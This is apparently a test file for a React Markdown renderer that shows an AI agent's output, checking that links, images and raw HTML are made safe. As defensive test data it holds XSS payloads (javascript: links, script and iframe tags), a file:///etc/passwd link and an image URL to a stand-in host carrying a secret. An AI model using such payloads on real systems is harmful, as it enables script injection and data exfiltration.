import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { Markdown } from "./Markdown.tsx";
import { decodeEntities, safeImage, safeLink } from "./safe.ts";

const draw = (text: string): string => renderToStaticMarkup(<Markdown text={text} />);

describe("drawing an agent's text", () => {
  it("draws what people write", () => {
    const html = draw(
      "# T\n\na **b** _c_ ~~d~~ `e` &amp; &lt;\n\n- [x] f\n- g\n\n| h |\n|---|\n| i |\n\n> j",
    );
    for (const part of [
      "<h3",
      "<strong>b</strong>",
      "<em>c</em>",
      "<del>d</del>",
      "<code>e</code>",
      "&amp; &lt;",
    ]) {
      expect(html).toContain(part);
    }
    for (const part of ["☑", "<li>", "<th>h</th>", "<td>i</td>", "<blockquote>"])
      expect(html).toContain(part);
  });

  it("opens only web and mail addresses", () => {
    expect(draw("[a](https://example.org/x)")).toContain('href="https://example.org/x"');
    expect(draw("<mailto:a@example.org>")).toContain('href="mailto:a@example.org"');
    for (const href of [
      "javascript:alert(1)",
      "JaVaScRiPt:alert(1)",
      "java&#115;cript:alert(1)",
      "vbscript:x",
      "data:text/html,x",
      "file:///etc/passwd",
      "//evil.example/x",
      "/api/auth/logout",
      "\\\\evil.example",
    ]) {
      expect(draw(`[click](${href})`), href).not.toContain("href=");
      expect(draw(`[click](<${href}>)`), href).not.toContain("href=");
    }
  });

  it("never loads an image by itself", () => {
    for (const text of [
      "![x](https://evil.example/?secret=1)",
      "![x][r]\n\n[r]: https://evil.example/i.png",
      '<img src="https://evil.example/i.png">',
      "[![x](https://evil.example/i.png)](https://evil.example)",
    ]) {
      expect(draw(text), text).not.toMatch(/<img|[^;] src="/);
    }
    expect(draw("![chart](https://evil.example/i.png)")).toContain("Image at evil.example: chart");
  });

  it("shows markup as text", () => {
    const hostile =
      '<script>alert(1)</script>\n\n<form action="//evil"><input></form>\n\na <b onclick="x">c</b> <iframe src=x>';
    const html = draw(hostile);
    expect(html).not.toMatch(/<(?:script|form|input|iframe|b)\b/);
    expect(html).toContain("&lt;script&gt;");
  });

  it("survives nesting without end", () => {
    for (const text of ["> ".repeat(3000), "- ".repeat(3000), "**_".repeat(3000), "[".repeat(5000)]) {
      expect(() => draw(`${text}x`)).not.toThrow();
    }
  });
});

describe("addresses and entities", () => {
  it("refuses blanks and control characters in an address", () => {
    expect(safeLink("java\nscript:alert(1)")).toBeNull();
    expect(safeLink(" https://example.org")).toBeNull();
    expect(safeImage("data:image/svg+xml,<svg/>")).toBeNull();
  });

  it("leaves references it does not know", () => {
    expect(decodeEntities("&copy; &#0; &#x110000; &#39;")).toBe("&copy; &#0; &#x110000; '");
  });
});
